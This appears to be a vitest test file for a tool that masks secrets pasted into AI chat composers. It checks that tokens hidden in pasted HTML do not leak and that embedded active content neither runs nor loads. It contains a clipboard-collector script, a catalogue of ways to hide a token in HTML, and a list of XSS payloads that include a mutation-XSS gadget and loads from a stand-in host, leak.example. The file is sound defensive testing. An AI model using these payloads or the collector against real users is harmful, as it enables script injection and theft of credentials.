import { beforeEach, describe, expect, test } from 'vitest';
import type { EditorName } from '../fixtures/editors/index.ts';
import type { TestBed } from '../harness/test-bed.ts';
import { plainChat } from './plain-chat.ts';
import { freshToken } from './secrets.ts';
import { Shown } from './shown.ts';

/** Sends on what it is given and what it then holds, as it is: nothing here is lost on the way. */
const COLLECTOR = `
  const tell = (path, text) => fetch(path, { method: 'POST', body: text });
  const editor = document.querySelector('#prompt-textarea');
  document.addEventListener('paste', ({ clipboardData }) => {
    for (const type of clipboardData.types) tell('/given', clipboardData.getData(type));
  });
  editor.addEventListener('input', () => tell('/holds', editor.innerHTML));`;

const halves = (text: string): readonly [string, string] => [text.slice(0, 20), text.slice(20)];

/** Where a secret can stand in html that reads as nothing of the kind. */
const PLACES: Readonly<Record<string, (token: string) => string>> = {
  'a text': (token) => `<p>key ${token}</p>`,
  'a hidden element': (token) =>
    `<p>seen</p><p style="display:none">${token}</p><i hidden>${token}</i>`,
  'several elements': (token) => `<p>${halves(token).join('</b><wbr><b>')}</p>`,
  'many elements': (token) => `<code>${token.replace(/./g, '<span>$&</span>')}</code>`,
  entities: (token) => `<p>${token.replace(/./g, (it) => `&#${it.charCodeAt(0)};`)}</p>`,
  'invisible characters': (token) => `<p>${halves(token).join('\u200b')}</p>`,
  'an address': (token) => `<p><a href="https://link.example/?key=${token}">link</a></p>`,
  'a title and an alternative text': (token) =>
    `<p title="${token}">a</p><img alt="${token}" src="https://pixel.example/a.png">`,
  'attributes of data': (token) =>
    `<p data-key="${token}" aria-label="${token}" id="${token}">a</p>`,
  'a style': (token) => `<p style="background: url('https://pixel.example/${token}')">a</p>`,
  'a style element': (token) => `<style>p::after { content: '${token}' }</style><p>a</p>`,
  'a script': (token) => `<script>const key = '${token}';</script><p>a</p>`,
  'a comment': (token) => `<p>a<!-- ${token} --></p>`,
  'a conditional comment': (token) => `<p>a<!--[if gte mso 9]><xml>${token}</xml><![endif]--></p>`,
  'an instruction': (token) => `<p>a</p><?xml key="${token}"?>`,
  'a template': (token) => `<p>a</p><template><p>${token}</p></template>`,
  'a noscript': (token) => `<p>a</p><noscript>${token}</noscript>`,
  'the head': (token) =>
    `<html><head><title>${token}</title><meta name="a" content="${token}"></head><body><p>a</p></body></html>`,
  fields: (token) =>
    `<p>a</p><input value="${token}"><textarea>${token}</textarea><option value="${token}">`,
  'a drawing': (token) => `<p>a</p><svg><desc>${token}</desc><text>${token}</text></svg>`,
  'an inner document': (token) => `<p>a</p><iframe srcdoc="<p>${token}</p>"></iframe>`,
};

function describePlaces(bed: TestBed): void {
  describe('a secret in pasted html does not arrive from', () => {
    beforeEach(async () => {
      bed.server.page('chatgpt.com', '/plain', plainChat('contenteditable', COLLECTOR));
      await bed.composer.goto('https://chatgpt.com/plain');
      bed.server.reset();
    });

    test.each(Object.keys(PLACES))('%s', async (place) => {
      const { composer, server } = bed;
      const token = freshToken();
      const html = PLACES[place]?.(token) ?? '';
      await composer.pasteFromElsewhere({
        'text/plain': 'a',
        'text/html': `<meta charset="utf-8">${html}`,
      });
      await new Shown(composer.page).waitForText('GitHub token');
      await composer.focus();
      await composer.page.type(' end');
      await composer.page.press('Enter');
      await server.waitForMessage();
      expect(server.carrying(token)).toEqual([]);
    });
  });
}

/** What editors put beside text and html; headless Firefox's clipboard takes neither. */
const FLAVOURS = ['application/x-vnd.editor+json', 'text/uri-list'];

export function describeFlavours(bed: TestBed): void {
  test.each(FLAVOURS)('a secret that is only in %s does not arrive', async (type) => {
    const { composer, server } = bed;
    const token = freshToken();
    server.page('chatgpt.com', '/plain', plainChat('textarea', COLLECTOR));
    await composer.goto('https://chatgpt.com/plain');
    await composer.pasteFromElsewhere({
      'text/plain': 'a',
      [type]: `https://link.example/${token}`,
    });
    await new Shown(composer.page).waitForText('GitHub token');
    const given = () => server.records.find(({ path }) => path === '/given');
    expect((await server.waitFor('what was given', given, 15_000)).text).toBe('a');
    expect(server.carrying(token)).toEqual([]);
  });
}

/** Each would say that it ran, or that it loaded something. */
const ACTIVE = [
  `<script>parent.executed = 1; executed = 1</script>`,
  `<img src="/missing.png" onerror="executed = 2">`,
  `<svg onload="executed = 3"><script>executed = 4</script></svg>`,
  `<a id="bait" href="javascript:void(top.executed = 5)">bait</a>`,
  `<iframe srcdoc="<script>parent.executed = 6</script>"></iframe>`,
  `<iframe src="javascript:parent.executed = 7"></iframe>`,
  `<details open ontoggle="executed = 8">a</details>`,
  `<input autofocus onfocus="executed = 9">`,
  `<video><source onerror="executed = 10" src="/missing.mp4"></video>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=executed=11&gt;">`,
  `<form action="javascript:executed = 12"><button id="bait2">bait</button></form>`,
  `<meta http-equiv="refresh" content="0; url=https://leak.example/refresh">`,
  `<base href="https://leak.example/">`,
  `<link rel="stylesheet" href="https://leak.example/sheet.css">`,
  `<object data="https://leak.example/object"></object><embed src="https://leak.example/embed">`,
  `<style>@import 'https://leak.example/import.css'; * { background: url(https://leak.example/x) }</style>`,
  `<p style="animation: x 1s" onanimationstart="executed = 13">a</p>`,
  `<button popovertarget="x">a</button><div popover id="x" onbeforetoggle="executed = 14">b</div>`,
].join('');

function describeActive(bed: TestBed, editors: readonly EditorName[]): void {
  describe('nothing in a masked paste runs or loads', () => {
    test.each(editors)('in %s', async (editor) => {
      const { composer, server } = bed;
      const token = freshToken();
      await composer.goto('https://claude.ai/', editor);
      server.reset();
      await composer.pasteFromElsewhere({
        'text/plain': token,
        'text/html': `<p>${token}</p>${ACTIVE}<p>end</p>`,
      });
      await composer.page.waitFor("fixture.text().includes('[GITHUB_TOKEN_1]')");
      await composer.page.evaluate(
        "for (const it of document.querySelectorAll('#bait, #bait2')) it.click()",
      );
      await composer.focus();
      await composer.page.type('typed');
      await composer.page.press('Enter');
      await server.waitForMessage();
      expect(await composer.page.evaluate('globalThis.executed ?? 0')).toBe(0);
      const loaded = server.records.filter(({ host }) => host === 'leak.example');
      expect(loaded.map(({ path }) => path)).toEqual([]);
      expect(server.carrying(token)).toEqual([]);
    });
  });
}

/** Html on the clipboard is what any page or program put there. */
export function describePastedHtml(bed: TestBed, editors: readonly EditorName[]): void {
  describePlaces(bed);
  describeActive(bed, editors);
}
